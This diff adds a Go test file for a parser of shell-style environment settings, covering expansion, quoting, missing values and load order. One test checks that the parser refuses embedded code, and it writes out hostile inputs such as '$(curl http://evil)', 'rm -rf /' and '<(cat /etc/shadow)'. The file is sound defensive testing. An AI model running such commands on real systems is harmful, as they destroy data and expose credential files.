@@ -1,0 +1,131 @@
+package settings
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/haagent/haagent/internal/findings"
+)
+
+func codes(fs []findings.Finding) string {
+	var c []string
+	for _, f := range fs {
+		c = append(c, f.Code+"@"+f.Target)
+	}
+	return strings.Join(c, ",")
+}
+
+func TestExpandsAsBashWould(t *testing.T) {
+	s, fs := Parse("shared/db", []byte(`# comment
+export MONGO_BASE_URI="mongodb://circle:p%40ss@m1:27017,m2:27017"
+export CIRCLE_SECRETS_MONGODB_MAIN_URI="$MONGO_BASE_URI/circle_ghe?ssl=true&authSource=admin"
+POSTGRES_HOST=pg.internal
+export POSTGRES_PORT='5432'
+export POSTGRES_USER="circle" POSTGRES_PASSWORD='it''s "quoted" $NOT_EXPANDED'
+export VAULT__PORT=${PORT_UNSET:-8200}
+export EMPTY=
+export POSTGRES_HOST
+`))
+	if len(fs) != 0 {
+		t.Fatalf("findings: %+v", fs)
+	}
+	for name, want := range map[string]string{
+		"CIRCLE_SECRETS_MONGODB_MAIN_URI": "mongodb://circle:p%40ss@m1:27017,m2:27017/circle_ghe?ssl=true&authSource=admin",
+		"POSTGRES_HOST":                   "pg.internal",
+		"POSTGRES_PORT":                   "5432",
+		"POSTGRES_PASSWORD":               `its "quoted" $NOT_EXPANDED`,
+		"VAULT__PORT":                     "8200",
+		"EMPTY":                           "",
+	} {
+		if v, ok := s.Get(name); !ok || v.Value != want {
+			t.Errorf("%s = %q (set %v), want %q", name, v.Value, ok, want)
+		}
+	}
+	if v, _ := s.Get("POSTGRES_HOST"); v.Where() != "shared/db:4" {
+		t.Errorf("POSTGRES_HOST set at %s", v.Where())
+	}
+	if _, fs := s.Require("postgres", "EMPTY"); len(fs) != 1 || fs[0].Code != "SETTING_MISSING" || fs[0].Target != "shared/db:8" {
+		t.Errorf("an empty required setting: %+v", fs)
+	}
+	if _, fs := s.Require("postgres", "NOPE"); len(fs) != 1 || fs[0].Code != "SETTING_MISSING" {
+		t.Errorf("an unset required setting: %+v", fs)
+	}
+}
+
+func TestUndefinedReferenceIsMissingNotEmpty(t *testing.T) {
+	// The runbook's own file: $MONGO_BASE_URI is never defined.
+	s, fs := Parse("shared/mongo", []byte("export CIRCLE_SECRETS_MONGODB_MAIN_URI=\"$MONGO_BASE_URI/circle_ghe?ssl=true&authSource=admin\"\n"))
+	if len(fs) != 0 {
+		t.Fatalf("findings at parse time: %+v", fs)
+	}
+	_, fs = s.Require("mongodb", "CIRCLE_SECRETS_MONGODB_MAIN_URI")
+	if len(fs) != 1 || fs[0].Code != "SETTING_MISSING" || !strings.Contains(fs[0].Summary, "$MONGO_BASE_URI") || fs[0].Target != "shared/mongo:1:8" {
+		t.Fatalf("want SETTING_MISSING naming $MONGO_BASE_URI at shared/mongo:1:8, got %+v", fs)
+	}
+}
+
+func TestRefusesCode(t *testing.T) {
+	for src, want := range map[string]string{
+		"export A=\"$(curl http://evil)\"\n":    "SETTING_REFUSED@f:1:8",
+		"A=`id`\n":                              "SETTING_REFUSED@f:1:1",
+		"rm -rf /\n":                            "SETTING_REFUSED@f:1:1",
+		"A=1; touch /tmp/x\n":                   "SETTING_REFUSED@f:1:6",
+		"if true; then A=1; fi\n":               "SETTING_REFUSED@f:1:1",
+		"A=1 > /tmp/x\n":                        "SETTING_REFUSED@f:1:1",
+		"A=$((1+2))\n":                          "SETTING_REFUSED@f:1:1",
+		"f() { A=1; }\n":                        "SETTING_REFUSED@f:1:1",
+		"export A=\"x\nB=<(cat /etc/shadow)\n": "CONFIG_SYNTAX@f:1:10",
+	} {
+		_, fs := Parse("f", []byte(src))
+		if got := codes(fs); got != want {
+			t.Errorf("%q: got %s, want %s", src, got, want)
+		}
+	}
+}
+
+func TestSyntaxErrorHasPosition(t *testing.T) {
+	_, fs := Parse("shared/postgres", []byte("export POSTGRES_HOST=\"pg\nexport POSTGRES_PORT=5432\n"))
+	if len(fs) != 1 || fs[0].Code != "CONFIG_SYNTAX" || !strings.HasPrefix(fs[0].Target, "shared/postgres:1:") {
+		t.Fatalf("%+v", fs)
+	}
+}
+
+func TestLoadOrderAndOverride(t *testing.T) {
+	root := t.TempDir()
+	os.MkdirAll(filepath.Join(root, SharedDir), 0o700)
+	os.WriteFile(filepath.Join(root, InstallFile), []byte("CIRCLE_SECRETS_SESSION_COOKIE_KEY=abcdefghijklmnop\nBASE=mongodb://h\n"), 0o600)
+	os.WriteFile(filepath.Join(root, SharedDir, "10-a"), []byte("export URI=\"$BASE/db\"\nexport P=1\n"), 0o600)
+	os.WriteFile(filepath.Join(root, SharedDir, "20-b"), []byte("export P=2\n"), 0o600)
+	s, fs := Load(root)
+	if len(fs) != 0 {
+		t.Fatal(fs)
+	}
+	if v, _ := s.Get("URI"); v.Value != "mongodb://h/db" {
+		t.Errorf("URI %q", v.Value)
+	}
+	if v, _ := s.Get("P"); v.Value != "2" || v.File != SharedDir+"/20-b" {
+		t.Errorf("P %+v", v)
+	}
+}
+
+func FuzzParse(f *testing.F) {
+	f.Add([]byte("export A=\"$B/x\"\nB=1\n"))
+	f.Add([]byte("export A=$(id)\n"))
+	f.Add([]byte("A=${B:-c} D='e'\"f\"\n# c\n"))
+	f.Add([]byte("export A B=1\nreadonly C=2\n"))
+	f.Fuzz(func(t *testing.T, data []byte) {
+		s, fs := Parse("fuzz", data)
+		for _, f := range fs {
+			if !findings.Known(f.Code) || f.Target == "" {
+				t.Fatalf("bad finding %+v", f)
+			}
+		}
+		for _, n := range s.Names("") {
+			if _, ok := s.Get(n); !ok {
+				t.Fatalf("Names lists unset %s", n)
+			}
+		}
+	})
+}
